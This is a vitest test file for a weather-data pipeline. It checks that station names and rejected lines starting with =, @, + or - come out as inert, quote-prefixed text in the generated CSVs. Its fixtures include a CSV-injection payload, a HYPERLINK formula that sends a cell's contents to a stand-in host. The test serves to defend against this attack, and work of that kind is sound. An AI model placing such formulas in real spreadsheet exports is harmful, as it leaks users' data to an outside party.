import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { originalText } from "../../lib/csv.ts";
import { getObjectText } from "../../lib/s3-objects.ts";
import { startTestS3, type TestS3 } from "../../lib/testing/s3rver.ts";
import { runAnalyze } from "./analyze.ts";
import { FILES } from "./config.ts";
import { runIngest } from "./ingest.ts";

/**
 * Issue 21, item 8: rejected_lines.csv lists lines of the source as they were, and weather_stats.csv names each
 * station by its file name; both are other people's text. The ingest and analyze steps run in-process on a station
 * file whose name and bad lines start with spreadsheet formula characters.
 */
const STATION = "-2"; // a valid station file name (letters, digits, _ and -) that a spreadsheet reads as a number
const HOSTILE_LINES = ['=HYPERLINK("http://x.test/?leak="&A1,"open")', "@SUM(1+1)", "+1+2\t1\t1\t1", "-2+3\t1\t1\t1"];

let s3: TestS3;
let scratch: string;
const stagingUri = "s3://wx-test/staging/weather/2000-01-31/";
beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), "weather-csv-injection-"));
  s3 = await startTestS3({ buckets: ["wx-test"] });
  await writeFile(path.join(scratch, `${STATION}.txt`), ["20000101\t100\t50\t10", ...HOSTILE_LINES, "20000102\t-50\t-80\t0", ""].join("\n"));
  const run = { runId: "2000-01-31", local: true, stagingUri };
  const log = () => {};
  await runIngest({ ...run, sourceUri: `${pathToFileURL(scratch).href}/`, rejectSample: 100 }, s3.s3, log);
  await runAnalyze(run, s3.s3, log);
});
afterAll(async () => {
  await s3?.stop();
  await rm(scratch, { recursive: true, force: true });
});

/** A CSV's rows with DuckDB's reading of quotes left to this simple split: none of these cells holds a comma. */
const rowsOf = (text: string) => {
  const [header, ...lines] = text.trim().split("\n");
  const columns = header.split(",");
  return lines.map((l) => Object.fromEntries(l.split(",").map((v, i) => [columns[i], v])));
};

describe("weather CSVs holding text that looks like a formula", () => {
  it("GIVEN bad lines starting with =, @, + and - WHEN listed in rejected_lines.csv THEN each is inert text, the original one quote away", async () => {
    const text = (await getObjectText(s3.s3, stagingUri + FILES.rejected))!;
    expect(text).toContain(`"'=HYPERLINK(""http://x.test/?leak=""&A1,""open"")"`);
    const simple = rowsOf(text.split("\n").filter((l) => !l.includes("HYPERLINK")).join("\n"));
    expect(simple.map((r) => [r.file, r.line, r.text])).toEqual([
      [`'${STATION}.txt`, "3", "'@SUM(1+1)"],
      [`'${STATION}.txt`, "4", "'+1+2\t1\t1\t1"],
      [`'${STATION}.txt`, "5", "'-2+3\t1\t1\t1"],
    ]);
    expect(simple.map((r) => originalText(r.text))).toEqual(HOSTILE_LINES.slice(1));
  });

  it("GIVEN a station file named -2.txt WHEN its statistics are written THEN the station is inert text and negative temperatures stay numbers", async () => {
    const stats = rowsOf((await getObjectText(s3.s3, stagingUri + FILES.statsCsv))!);
    expect(stats).toHaveLength(1);
    expect(stats[0].station).toBe(`'${STATION}`);
    expect(originalText(stats[0].station)).toBe(STATION);
    expect(stats[0].year).toBe("2000");
    expect(Number(stats[0].avg_min_temp_c)).toBeLessThan(0); // (5 + -8) / 2 °C, written as a number
    expect(stats[0].avg_min_temp_c).toMatch(/^-\d/);
  });
});
